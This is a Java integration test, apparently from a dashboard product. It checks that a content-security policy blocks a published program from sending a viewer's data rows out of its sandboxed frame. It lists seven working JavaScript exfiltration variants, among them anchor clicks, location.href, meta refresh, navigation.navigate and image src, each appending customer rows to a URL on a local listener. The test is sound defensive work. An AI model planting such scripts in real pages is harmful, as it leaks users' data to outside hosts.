package org.mnemos.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.File;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URL;
import java.net.URLDecoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.SQLException;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.ShrinkWrap;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.mnemos.it.support.ArtifactWorkspace;
import org.mnemos.it.support.Browser;
import org.mnemos.it.support.Http;
import org.mnemos.it.support.LandingPage;
import org.mnemos.it.support.TestEnvironment;
import org.mnemos.it.support.Tokens;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.TimeoutException;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * Issue 29, medium 4: a dashboard program sent a viewer's rows out by navigating its own frame (an anchor whose
 * {@code href} it set to an outside address with the rows appended, then clicked). Each variant is stored as a
 * published program the way the data-injection check accepted such programs before (the check refuses them now, so
 * the test writes the version into the database), and a viewer opens it in headless Chromium on the landing page:
 * a listener on this machine receives nothing. The same page in a sandboxed frame of a page without the landing
 * page's {@code frame-src 'none'} delivers the rows to the listener, so the test fails when that policy goes.
 */
@ExtendWith(ArquillianExtension.class)
class ProgramExfiltrationIT {

    private static final Path DATA = Path.of(System.getProperty("mnemos.sample.data"));
    /** The superstore's first customer, in the rows every variant puts into its address. */
    private static final String FIRST_CUSTOMER = "Claire Gute";
    /** What the landing page sees when its own policy stops the frame's navigation. */
    private static final String PAGE_BLOCKED = "page:frame-src";

    /** One way out: its script, and the violation that stops it when the landing page's policy holds. */
    private record Variant(String name, String script, String blockedAs) {

        /** A variant whose navigation carries the rows to the listener unless the embedding page forbids it. */
        static Variant navigating(String name, String script) {
            return new Variant(name, script, PAGE_BLOCKED);
        }
    }

    private static final List<Variant> VARIANTS = List.of(
            Variant.navigating(
                    "the issue's anchor: href set to the rows, then clicked",
                    "const a = document.createElement('a'); a.href = out; document.body.appendChild(a); a.click();"),
            Variant.navigating("location", "location.href = out;"),
            Variant.navigating(
                    "a meta refresh added by the script",
                    "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + out;"
                            + " document.head.appendChild(m);"),
            Variant.navigating("the Navigation API", "navigation.navigate(out);"),
            Variant.navigating(
                    "setAttribute and a synthetic mouse click",
                    "const a = document.createElement('a'); a.setAttribute('href', out); document.body.appendChild(a);"
                            + " a.dispatchEvent(new MouseEvent('click'));"),
            Variant.navigating(
                    "a download link",
                    "const a = document.createElement('a'); a.href = out; a.download = 'rows.json';"
                            + " document.body.appendChild(a); a.click();"),
            new Variant("an image", "new Image().src = out;", "frame:img-src"));

    @ArquillianResource
    URL base;

    private final List<String> received = new CopyOnWriteArrayList<>();
    private HttpServer listener;
    private HttpServer unprotectedHost;
    private String controlPage = "";
    private ArtifactWorkspace ground;
    private String artifactId;
    private String artifact;

    @Deployment(testable = false)
    static WebArchive deployment() {
        return ShrinkWrap.createFromZipFile(WebArchive.class, new File(System.getProperty("mnemos.war")));
    }

    @BeforeEach
    void publishedArtifactAndAListener() throws Exception {
        listener = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        listener.createContext("/", exchange -> {
            received.add(URLDecoder.decode(exchange.getRequestURI().getRawQuery() + "", StandardCharsets.UTF_8));
            answer(exchange, "text/plain", "ok");
        });
        listener.start();
        unprotectedHost = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        unprotectedHost.createContext("/", exchange -> answer(exchange, "text/html", controlPage));
        unprotectedHost.start();
        ground = ArtifactWorkspace.onSuperstore(base, DATA);
        Http.Reply created = ground.alice()
                .post(
                        "api/workspaces/" + ground.workspace() + "/artifacts",
                        "{\"name\":\"Orders\",\"dataSourceId\":\"" + ground.dataSource()
                                + "\",\"instruction\":\"orders\"}");
        assertThat(created.status()).as(created.body()).isEqualTo(201);
        artifactId = created.json().at("/artifact/id").asText();
        artifact = "api/workspaces/" + ground.workspace() + "/artifacts/" + artifactId;
        Http.Reply published = ground.alice().post(artifact + "/publish", "");
        assertThat(published.status()).as(published.body()).isEqualTo(201);
    }

    @AfterEach
    void stopServers() {
        listener.stop(0);
        unprotectedHost.stop(0);
    }

    @Test
    void aViewersRowsNeverReachTheListenerFromTheLandingPage() throws Exception {
        try (LandingPage page = new LandingPage(Http.root(base), Tokens.mint("vic", "acme"), ground.workspace())) {
            for (Variant variant : VARIANTS) {
                storeAsAcceptedProgram(variant);
                assertThat(showArtifact(page, variant.blockedAs()))
                        .as(variant.name())
                        .contains(variant.blockedAs());
            }
        }
        assertThat(received)
                .as("what reached the listener from the landing page")
                .isEmpty();

        WebDriver unprotected = Browser.open();
        try {
            for (Variant variant : VARIANTS) {
                storeAsAcceptedProgram(variant);
                received.clear();
                List<String> marks = showWithoutThePolicy(unprotected);
                if (variant.blockedAs().equals(PAGE_BLOCKED)) {
                    assertThat(received)
                            .as(variant.name() + ", framed by a page without frame-src 'none'")
                            .anySatisfy(query -> assertThat(query).contains(FIRST_CUSTOMER));
                } else {
                    assertThat(marks).as(variant.name()).contains(variant.blockedAs());
                    assertThat(received).as(variant.name()).isEmpty();
                }
            }
        } finally {
            unprotected.quit();
        }
    }

    /** The variant as the only published version of a program artifact, as the check accepted it before issue 29. */
    private void storeAsAcceptedProgram(Variant variant) throws SQLException {
        try (Connection db = TestEnvironment.open();
                PreparedStatement form = db.prepareStatement("UPDATE artifact SET form = 'PROGRAM' WHERE id = ?");
                PreparedStatement content = db.prepareStatement(
                        "UPDATE artifact_version SET content = ? WHERE artifact_id = ? AND number = 1")) {
            form.setString(1, artifactId);
            assertThat(form.executeUpdate()).isEqualTo(1);
            content.setString(1, program(variant));
            content.setString(2, artifactId);
            assertThat(content.executeUpdate()).isEqualTo(1);
        }
    }

    /**
     * A program that reads the injection point, as the check demands, puts three rows into an address of the
     * listener and tries the variant's way out; it reports its own policy's refusals to the page around it.
     */
    private String program(Variant variant) {
        return """
                <!DOCTYPE html>
                <html><head><title>Orders</title></head><body><h1>Orders</h1>
                <script type="application/json" id="mnemos-data"></script>
                <script>
                document.addEventListener('securitypolicyviolation', e => parent.postMessage('frame:' + e.effectiveDirective, '*'));
                const data = JSON.parse(document.getElementById('mnemos-data').textContent);
                const out = 'http://127.0.0.1:%d/collect?rows=' + encodeURIComponent(JSON.stringify(data.rows.slice(0, 3)));
                %s
                </script></body></html>
                """.formatted(listener.getAddress().getPort(), variant.script());
    }

    /**
     * Opens the artifact in the viewer widget anew and returns what the page saw: once it saw {@code expected},
     * or after 30 s without it.
     */
    private List<String> showArtifact(LandingPage page, String expected) {
        page.script(
                "window.marks = [];"
                        + " if (!window.listening) {"
                        + "   window.listening = true;"
                        + "   document.addEventListener('securitypolicyviolation', e => marks.push('page:' + e.effectiveDirective), true);"
                        + "   addEventListener('message', e => marks.push(String(e.data)));"
                        + " }"
                        + " const viewer = document.querySelector('mnemos-artifact-viewer');"
                        + " viewer.removeAttribute('artifact'); viewer.setAttribute('artifact', arguments[0]);",
                artifactId);
        try {
            page.waiting().until(b -> seen(page).contains(expected));
        } catch (TimeoutException e) {
            // The assertion that follows names what was seen instead.
        }
        return seen(page);
    }

    @SuppressWarnings("unchecked")
    private static List<String> seen(LandingPage page) {
        return (List<String>) page.script("return window.marks;");
    }

    /** The page as the viewer gets it, in a sandboxed srcdoc frame of a page that sets no frame-src. */
    private List<String> showWithoutThePolicy(WebDriver browser) throws IOException {
        HttpResponse<String> rendered = ground.vic().exchange(artifact + "/versions/1/render", "text/html");
        assertThat(rendered.statusCode()).as(rendered.body()).isEqualTo(200);
        String srcdoc = new ObjectMapper().writeValueAsString(rendered.body()).replace("</", "<\\/");
        controlPage = "<!DOCTYPE html><html><body><iframe sandbox=\"allow-scripts\"></iframe><script>"
                + "window.marks = []; addEventListener('message', e => marks.push(String(e.data)));"
                + "document.querySelector('iframe').srcdoc = " + srcdoc + ";</script></body></html>";
        browser.get("http://127.0.0.1:" + unprotectedHost.getAddress().getPort() + "/");
        return new WebDriverWait(browser, Duration.ofSeconds(30))
                .until(b -> !received.isEmpty()
                        ? List.of("listener")
                        : marks(((JavascriptExecutor) b).executeScript("return window.marks;")));
    }

    /** The marks seen so far, or null (keep waiting) while there are none. */
    @SuppressWarnings("unchecked")
    private static List<String> marks(Object seen) {
        return seen instanceof List<?> list && !list.isEmpty() ? (List<String>) list : null;
    }

    private static void answer(HttpExchange exchange, String type, String body) throws IOException {
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        exchange.getResponseHeaders().set("Content-Type", type + ";charset=utf-8");
        exchange.sendResponseHeaders(200, bytes.length);
        exchange.getResponseBody().write(bytes);
        exchange.close();
    }
}
